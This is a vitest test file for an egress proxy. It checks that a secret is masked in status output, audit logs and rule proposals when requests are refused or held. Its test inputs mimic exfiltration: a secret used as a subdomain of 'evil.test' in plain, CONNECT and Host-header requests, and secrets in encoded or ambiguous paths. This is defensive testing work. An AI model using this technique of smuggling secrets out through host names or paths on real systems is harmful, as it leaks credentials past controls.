// What is refused before it is inspected may hold a secret in its path or its host: nothing that the proxy shows, writes
// down or proposes has it.

import { afterEach, beforeEach, expect, test } from "vitest";

import type { TableRoute } from "#domain/egress/route.ts";
import { readAuditLog } from "#lib/store/audit-log.ts";
import { readQueue } from "#lib/store/read-queue.ts";
import { connectUnix } from "#lib/unix-socket.ts";
import { get, openTlsTunnel, over, plain, raw } from "#tests/helpers/egress/client.ts";
import { type EgressProcess, routeTo, startEgress } from "#tests/helpers/egress/proxy.ts";

const SECRET = "q8zt4vx-w2lk9rb7hn5yc3m0";
const HOST = "api.example.com";
const stars = "*".repeat(SECRET.length);

let egress: EgressProcess;
let ca: string;

beforeEach(async () => {
  const routes: TableRoute[] = [
    routeTo(HOST, { path_allowlist: ["/v1/"] }),
    routeTo("limited.example.com", { limits: { body_bytes: 1 } }),
  ];
  egress = await startEgress({ table: { routes }, tokens: { EGRESS_SECRET_DB: SECRET } });
  ca = await egress.ca();
});
afterEach(() => egress.remove());

/** All that people can see of it; the first requests come before the rules are loaded. */
async function told(): Promise<string> {
  return JSON.stringify([
    await egress.status(),
    await egress.seen(),
    await readAuditLog(egress.of),
    await readQueue(egress.of),
    egress.output(),
  ]);
}

const ask = (url: string, how: Parameters<typeof get>[3] = {}) => get(egress.paths.egress.socket, ca, url, how);

test("a path with a secret to a host that nobody knows", async () => {
  const { status, json } = await ask(`https://other.example.com/a/b/${SECRET}/c`);
  expect(status).toBe(403);
  expect(json().suggestion?.path_allowlist).toEqual(["/a/b/"]);
  const { items } = await readQueue(egress.of);
  expect(items.map(({ proposal }) => proposal.payload)).toMatchObject([
    { path: `/a/b/${stars}/c`, path_allowlist: ["/a/b/"] },
  ]);
  expect((await egress.status()).recent).toMatchObject([{ path: `/a/b/${stars}/c` }]);
  expect(await told()).not.toContain(SECRET);
});

test.each([
  ["a path that no rule covers", `https://${HOST}/v2/${SECRET}`, {}],
  ["a limit", `https://limited.example.com/${SECRET}`, { method: "POST", body: "two" }],
  ["a push", `https://${HOST}/v1/${SECRET}/git-receive-pack`, { method: "POST" }],
  ["a path that two servers read differently", `https://${HOST}/v1/${SECRET}%2fx`, {}],
  ["a path that is no path", `https://${HOST}/v1/${SECRET}//x`, {}],
  ["the wrong method", `https://${HOST}/v1/${SECRET}`, { method: "TRACE" }],
] as const)("a secret in what is refused for %s", async (_name, url, how) => {
  expect((await ask(url, how)).status).toBeGreaterThanOrEqual(400);
  expect(await told()).not.toContain(SECRET);
});

test("a secret in the name of a host: asked for plainly, by CONNECT, within a tunnel, in a Host header", async () => {
  const { socket } = egress.paths.egress;
  const evil = `${SECRET}.evil.test`;
  expect((await plain(socket, `http://${evil}/`)).status).toBe(403);
  expect((await ask(`https://${evil}/`)).status).toBe(403);
  await raw(await connectUnix(socket), `CONNECT ${evil} HTTP/1.1\r\nHost: ${evil}\r\n\r\n`);
  const tunnel = await openTlsTunnel(socket, ca, HOST);
  expect((await over(tunnel, "/v1/", { headers: { host: evil } })).status).toBe(421);
  tunnel.destroy();
  const hosts = (await egress.status()).recent.map(({ host }) => host);
  expect(hosts).toEqual(["********.evil.test", "********.evil.test", "********.evil.test", HOST]);
  expect((await readQueue(egress.of)).items).toEqual([]);
  expect(await told()).not.toContain(SECRET);
});

test("a secret in the path of a held request", async () => {
  await egress.setTable({ on_unknown_host: "hold", hold_seconds: 1 });
  const { status, json } = await ask(`https://other.example.com/a/${SECRET}`);
  const { items } = await readQueue(egress.of);
  expect([status, json().proposal]).toEqual([403, items[0]?.proposal.id]);
  expect(items.map(({ proposal }) => proposal.payload)).toMatchObject([
    { path: `/a/${stars}`, path_allowlist: ["/a/"] },
  ]);
  expect(await told()).not.toContain(SECRET);
});

test("a held finding: the answer and the record name its proposal", async () => {
  await egress.setTable({ hold_seconds: 1, routes: [routeTo(HOST)] });
  const { status, json } = await ask(`https://${HOST}/a?token=${SECRET}`);
  const { items } = await readQueue(egress.of);
  expect(items).toHaveLength(1);
  const id = items[0]?.proposal.id;
  expect([status, json().error, json().proposal]).toEqual([403, "hold_timeout", id]);
  expect((await egress.status()).recent.at(-1)).toMatchObject({ status: 403, proposal: id });
  expect(await told()).not.toContain(SECRET);
});

test("a secret under a wildcard leaves in no name: its host is not even looked up", async () => {
  await egress.setTable({ routes: [routeTo("*.example.com")] });
  const { status, json } = await ask(`https://${SECRET}.example.com/`);
  expect([status, json().error, json().rule]).toEqual([403, "secret_found", "own:db"]);
  expect((await egress.status()).recent.at(-1)).toMatchObject({
    findings: [{ where: "host name", action: "blocked" }],
  });
  expect(await told()).not.toContain(SECRET);
});
